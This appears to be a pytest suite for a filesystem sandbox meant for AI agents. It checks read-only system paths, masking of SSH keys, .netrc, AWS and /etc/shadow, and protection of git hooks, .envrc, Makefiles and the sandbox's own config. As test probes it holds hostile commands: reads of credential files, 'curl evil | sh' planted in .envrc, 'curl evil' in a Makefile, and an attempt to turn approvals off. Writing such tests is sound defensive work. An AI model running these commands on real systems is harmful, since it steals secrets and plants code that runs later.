"""Filesystem: system read-only, workspace writable, scratch /tmp and home, protected paths
never visible, and the files that make the host run code later kept read-only."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from agentvisor.errors import ConfigError
from tests.conftest import is_root, requires_bwrap
from tests.sandbox.helpers import sandbox, text

pytestmark = requires_bwrap


def sh(workspace: Path, script: str, **settings) -> str:
    return text(sandbox(workspace, **settings).run(["sh", "-c", script]))


def test_workspace_is_writable_and_shared_with_the_host(workspace):
    sh(workspace, "echo from-sandbox > out.txt")
    assert (workspace / "out.txt").read_text() == "from-sandbox\n"


def test_system_is_read_only(workspace):
    out = sh(workspace, "touch /usr/agentvisor-probe /etc/agentvisor-probe 2>&1; echo done")
    assert out.count("Read-only file system") == 2
    assert not Path("/usr/agentvisor-probe").exists()
    if is_root:
        assert os.access("/usr", os.W_OK)  # control: the caller could write there


def test_sandbox_root_is_read_only(workspace):
    out = sh(workspace, "touch /new-file 2>&1; mkdir /new-dir 2>&1; echo done")
    assert out.count("Read-only file system") == 2


def test_mounts_are_read_only_unless_rw(workspace, tmp_path):
    data = tmp_path / "data"
    data.mkdir()
    out = sh(workspace, "echo x > /data/f 2>&1; echo done", mounts=[f"{data}:/data"])
    assert "Read-only file system" in out and not (data / "f").exists()
    sh(workspace, "echo x > /data/f", mounts=[f"{data}:/data:rw"])
    assert (data / "f").read_text() == "x\n"


def test_tmp_is_private_and_size_capped(workspace, tmp_path):
    host_file = Path("/tmp") / f"agentvisor-probe-{os.getpid()}"
    host_file.write_text("host")
    try:
        out = sh(
            workspace,
            f"cat {host_file} 2>&1; dd if=/dev/zero of=/tmp/fill bs=1M count=32 "
            "2>&1; ls -l /tmp/fill",
            tmp_size_mb=8,
        )
        assert "No such file" in out  # the host's /tmp is not visible
        assert "No space left on device" in out
        assert host_file.read_text() == "host"
    finally:
        host_file.unlink()


def test_home_is_an_empty_scratch(workspace, isolated_home):
    (isolated_home / "notes.txt").write_text("host notes")
    out = sh(workspace, "ls -A ~; echo $HOME; echo x > ~/new.txt")
    assert "notes.txt" not in out
    assert str(isolated_home) in out
    assert not (isolated_home / "new.txt").exists()


def test_protected_paths_masked_when_workspace_is_home(isolated_home):
    ssh = isolated_home / ".ssh"
    ssh.mkdir()
    (ssh / "id_rsa").write_text("PRIVATE-KEY-MARKER")
    (isolated_home / ".netrc").write_text("machine x password NETRC-MARKER")
    own = isolated_home / ".config" / "agentvisor"
    own.mkdir(parents=True)
    (own / "config.yaml").write_text("# OWN-CONFIG-MARKER")
    assert "PRIVATE-KEY-MARKER" in (ssh / "id_rsa").read_text()  # control
    out = sh(
        isolated_home,
        "cat ~/.ssh/id_rsa ~/.netrc ~/.config/agentvisor/config.yaml 2>&1; ls ~/.ssh 2>&1",
    )
    assert "MARKER" not in out
    out = sh(isolated_home, "echo x > ~/.ssh/authorized_keys 2>&1; echo done")
    assert not (ssh / "authorized_keys").exists()


def test_extra_protected_path_is_masked(workspace):
    secret = workspace / "vault"
    secret.mkdir()
    (secret / "token").write_text("VAULT-MARKER")
    assert "VAULT-MARKER" in sh(workspace, "cat vault/token")  # control
    out = sh(workspace, "cat vault/token 2>&1", protected_paths=[str(secret)])
    assert "VAULT-MARKER" not in out


def test_workspace_inside_a_protected_path_is_refused(isolated_home):
    ssh = isolated_home / ".ssh"
    ssh.mkdir()
    with pytest.raises(ConfigError, match="protected"):
        sandbox(ssh)


def test_protected_mount_is_refused(workspace, isolated_home):
    (isolated_home / ".aws").mkdir()
    with pytest.raises(ConfigError, match=r"sandbox.mounts\[0\].*protected"):
        sandbox(workspace, mounts=[f"{isolated_home / '.aws'}:/aws"])


def test_etc_shadow_unreadable(workspace):
    if not Path("/etc/shadow").exists():
        pytest.skip("no /etc/shadow here")
    out = sh(workspace, "cat /etc/shadow 2>&1 | head -c 200")
    assert "root:" not in out
    if is_root:
        assert "root:" in Path("/etc/shadow").read_text()  # control


def git_workspace(workspace: Path) -> Path:
    (workspace / ".git" / "hooks").mkdir(parents=True)
    (workspace / ".git" / "config").write_text("[core]\n\tbare = false\n")
    return workspace


def test_git_hooks_and_config_read_only(workspace):
    git_workspace(workspace)
    out = sh(
        workspace,
        "echo evil > .git/hooks/pre-commit 2>&1; "
        "printf '[core]\\nfsmonitor = evil\\n' >> .git/config 2>&1; "
        "echo x > .git/HEAD; echo done",
    )
    assert "done" in out
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
    assert "fsmonitor" not in (workspace / ".git" / "config").read_text()
    assert (workspace / ".git" / "HEAD").exists()  # the rest of .git stays writable


def test_git_dir_cannot_be_swapped(workspace):
    git_workspace(workspace)
    sh(workspace, "mv .git .git-old 2>&1; mkdir -p .git/hooks; echo evil > .git/hooks/pre-commit")
    assert not (workspace / ".git" / "hooks" / "pre-commit").exists()
    assert not (workspace / ".git-old").exists()


def test_missing_envrc_cannot_be_created_and_leaves_no_placeholder(workspace):
    out = sh(workspace, "echo 'curl evil | sh' > .envrc 2>&1; ls -A")
    assert "Read-only file system" in out or "Device or resource busy" in out
    assert sorted(os.listdir(workspace)) == []  # placeholders removed after the run


def test_missing_git_dir_cannot_be_created_with_hooks(workspace):
    sh(
        workspace,
        "git init -q . 2>/dev/null; mkdir -p .git/hooks; echo evil > .git/hooks/post-checkout",
    )
    assert not (workspace / ".git" / "hooks" / "post-checkout").exists()


def test_configured_readonly_path(workspace):
    (workspace / "Makefile").write_text("all:\n\ttrue\n")
    sh(workspace, "echo 'all:; curl evil' > Makefile", readonly_paths=["Makefile"])
    assert "curl" not in (workspace / "Makefile").read_text()
    sh(workspace, "echo 'all:; curl evil' > Makefile")  # control: writable without the setting
    assert "curl" in (workspace / "Makefile").read_text()


def test_symlinked_envrc_is_refused(workspace, tmp_path):
    target = tmp_path / "elsewhere"
    target.write_text("")
    (workspace / ".envrc").symlink_to(target)
    with pytest.raises(ConfigError, match="symbolic link"):
        sandbox(workspace).run(["true"])


def test_hard_link_to_a_host_file_fails(workspace, tmp_path):
    outside = tmp_path / "outside.txt"
    outside.write_text("untouched")
    sh(workspace, f"ln {outside} linked 2>&1; echo x >> linked")
    assert outside.read_text() == "untouched"


def test_proc_root_does_not_reach_the_host(workspace, tmp_path):
    outside = tmp_path / "outside.txt"
    outside.write_text("HOST-ONLY")
    out = sh(workspace, f"cat /proc/1/root{outside} /proc/self/root{outside} 2>&1")
    assert "HOST-ONLY" not in out


def test_workspace_config_cannot_be_planted_or_changed(workspace):
    code = "open('agentvisor.yaml', 'w').write('approvals: {mode: off}')"
    out = text(sandbox(workspace).run(["python3", "-c", code]))
    assert "Is a directory" in out or "Read-only" in out
    assert not (workspace / "agentvisor.yaml").exists()  # the stand-in is gone afterwards
    (workspace / "agentvisor.yaml").write_text("sandbox: {pids: 100}\n")
    sandbox(workspace).run(["python3", "-c", code.replace("'w'", "'a'")])
    assert (workspace / "agentvisor.yaml").read_text() == "sandbox: {pids: 100}\n"


def test_missing_or_empty_directories_are_covered_whole(workspace):
    """One read-only stand-in covers every protected entry below a missing directory, and a
    later run (or another process) computes the same mounts once the stand-in exists."""
    layout = sandbox(workspace).backend.layout
    layout.make_placeholders()
    try:
        _, first = layout.readonly_binds()
        assert str(workspace / ".vscode") in first and str(workspace / ".git") in first
        assert not any(Path(p).parent.name in (".vscode", ".git") for p in first)
        layout.make_placeholders()  # a second user, with the stand-ins in place
        _, second = layout.readonly_binds()
        assert second == first
        layout.cleanup()
    finally:
        layout.cleanup()
    assert sorted(os.listdir(workspace)) == []
